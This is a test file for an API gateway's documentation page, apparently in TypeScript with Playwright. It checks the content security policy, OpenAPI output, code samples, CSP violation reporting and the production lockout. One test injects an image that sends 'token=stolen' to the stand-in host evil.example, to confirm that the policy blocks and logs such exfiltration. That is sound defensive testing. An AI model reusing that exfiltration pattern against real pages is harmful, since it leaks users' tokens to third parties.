import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import type { Browser, Page } from 'playwright-core';
import { aBrowser } from '../attack/auth/browser.ts';
import { call } from './client.ts';
import { aSecret, type Gateway, startGateway } from './gateway.ts';

interface Document {
  readonly tags: readonly { readonly name: string }[];
  readonly paths: Readonly<Record<string, Readonly<Record<string, { tags: string[] }>>>>;
}

describe('/docs', () => {
  let gateway: Gateway;
  let browser: Browser;
  let page: Page;

  beforeAll(async () => {
    [gateway, browser] = await Promise.all([startGateway(), aBrowser()]);
    page = await browser.newPage();
  });
  afterAll(() => browser?.close());

  it('is a page of its own origin only, outside production', async () => {
    const answer = await call(gateway, '/docs');
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toContain('text/html');
    const policy = answer.headers.get('content-security-policy')!;
    expect(policy).toContain("default-src 'none';script-src 'self';");
    expect(policy).toContain("connect-src 'self';");
    expect(policy).not.toContain('unsafe-eval');
    expect(answer.text).not.toMatch(/<script>|(src|href)="(https?:)?\/\//);
    const parts = [...answer.text.matchAll(/(?:src|href)="(\.[^"]+)"/g)].map(([, path]) => path!);
    expect(parts).toHaveLength(2);
    for (const path of parts) {
      const part = await call(gateway, new URL(path, 'http://x/docs').pathname);
      expect([path, part.status]).toEqual([path, 200]);
      expect(part.headers.get('content-type')).toContain('text/javascript');
    }
    const document = await call(gateway, '/docs/openapi.json');
    expect(document.headers.get('content-type')).toContain('application/json');
    expect(document.text).toContain('"openapi":"3.1.0"');
  });

  it('lists every operation under a group, and the groups in the order of use', async () => {
    const { text } = await call(gateway, '/docs/openapi.json');
    const { tags, paths } = JSON.parse(text) as Document;
    const names = tags.map(({ name }) => name);
    expect(names[0]).toBe('Sign in');
    const used = Object.values(paths).flatMap((item) =>
      Object.values(item).map((operation) => operation.tags[0]!),
    );
    expect([...new Set(used)]).toEqual(names);
  });

  it('loads in a browser without a call to elsewhere and without breaking its policy', async () => {
    const requests: string[] = [];
    const complaints: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    page.on('console', (message) => {
      if (message.type() === 'error') complaints.push(message.text());
    });
    page.on('pageerror', (error) => complaints.push(error.message));
    await page.goto(`${gateway.url}/docs`);
    await page.getByRole('heading', { name: 'Authorize' }).waitFor();
    await page
      .getByRole('button', { name: /^Test Request/ })
      .first()
      .waitFor();
    const isOwn = (url: string) => url.startsWith(`${gateway.url}/docs`);
    expect(requests.filter((url) => !/^(data|blob):/.test(url) && !isOwn(url))).toEqual([]);
    expect(complaints).toEqual([]);
  });

  it('shows a sample in curl that works as it is pasted', async () => {
    const sample = page
      .locator('code')
      .filter({ hasText: /curl .*\/api\/auth\/register/ })
      .first();
    await sample.waitFor();
    const { stdout } = await promisify(execFile)('bash', ['-ec', await sample.innerText()]);
    expect(JSON.parse(stdout)).toMatchObject({ success: true });
  });

  it('has samples in the languages of phone apps', async () => {
    for (const [language, part] of [
      ['JavaScript', 'fetch('],
      ['Swift', 'URLRequest('],
      ['Kotlin', 'OkHttpClient()'],
      ['Dart', "import 'package:http/http.dart'"],
    ] as const) {
      await page.getByRole('tab', { name: language }).click();
      await expect
        .poll(() => page.locator('code').allInnerTexts())
        .toEqual(expect.arrayContaining([expect.stringContaining(part)]));
    }
  });

  describe('reports of what its policy blocks', () => {
    const TYPE = 'application/csp-report';
    const violations = () =>
      gateway
        .log()
        .split('\n')
        .filter((line) => line.includes('"csp.violation"'))
        .map((line) => (JSON.parse(line) as { metadata: object }).metadata);
    const report = (type: string, body: unknown) =>
      fetch(`${gateway.url}/api/csp-reports`, {
        method: 'POST',
        headers: { 'Content-Type': type },
        body: typeof body === 'string' ? body : JSON.stringify(body),
      });

    it('come from a browser, and are logged', async () => {
      const attacked = await browser.newPage();
      await attacked.goto(`${gateway.url}/docs`);
      await attacked.evaluate(
        `document.body.append(Object.assign(new Image(), { src: 'https://evil.example/pixel?token=stolen' }))`,
      );
      await expect
        .poll(violations, { timeout: 30_000 })
        .toContainEqual(expect.objectContaining({ field: 'img-src', url: 'https://evil.example' }));
      await attacked.close();
    });

    it('are taken in the older form, and their text is not logged', async () => {
      const answer = await report(TYPE, {
        'csp-report': {
          'document-uri': 'https://api.example.org/docs?secret=1',
          'violated-directive': "script-src 'self'",
          'blocked-uri': 'inline',
          'script-sample': 'alert("ada@example.org")',
        },
      });
      expect([answer.status, await answer.text()]).toEqual([204, '']);
      await expect
        .poll(violations)
        .toContainEqual(expect.objectContaining({ field: 'script-src', url: 'inline' }));
      expect(gateway.log()).not.toMatch(/secret=1|script-sample|token=stolen/);
    });

    it('are bounded in size and words', async () => {
      const before = violations().length;
      const forged = {
        'effective-directive': 'forged\nline',
        'blocked-uri': { not: 'a text' },
        'violated-directive': 'x'.repeat(5_000),
      };
      expect((await report(TYPE, { 'csp-report': forged })).status).toBe(204);
      await expect.poll(() => violations().length).toBe(before + 1);
      expect(violations().at(-1)).toMatchObject({ field: 'unknown', url: 'unknown' });
      expect((await report(TYPE, { 'csp-report': {}, more: 'x'.repeat(20_000) })).status).toBe(413);
      expect((await report(TYPE, '{')).status).toBe(400);
      expect((await report('text/plain', '{}')).status).toBe(415);
      for (const odd of [{}, [null, 1], 'null', { 'csp-report': 3 }]) {
        expect((await report(TYPE, odd)).status).toBe(204);
      }
      expect(violations()).toHaveLength(before + 1);
    });
  });

  it('is not there in production, unless it is asked for', async () => {
    const secrets = { JWT_SECRET: aSecret(), PASSWORD_PEPPER: aSecret() };
    const production = { NODE_ENV: 'production', ...secrets };
    const [closed, open] = await Promise.all([
      startGateway({ environment: production }),
      startGateway({ environment: { ...production, DOCS_ENABLED: 'true' } }),
    ]);
    for (const path of ['/docs', '/docs/openapi.json', '/docs/reference.js', '/docs/start.js']) {
      expect([path, (await call(closed, path)).status]).toEqual([path, 404]);
      expect([path, (await call(open, path)).status]).toEqual([path, 200]);
    }
    const reports = { method: 'POST' } as const;
    expect((await call(closed, '/api/csp-reports', reports)).status).toBe(404);
    expect((await call(open, '/api/csp-reports', reports)).status).toBe(204);
  });
});
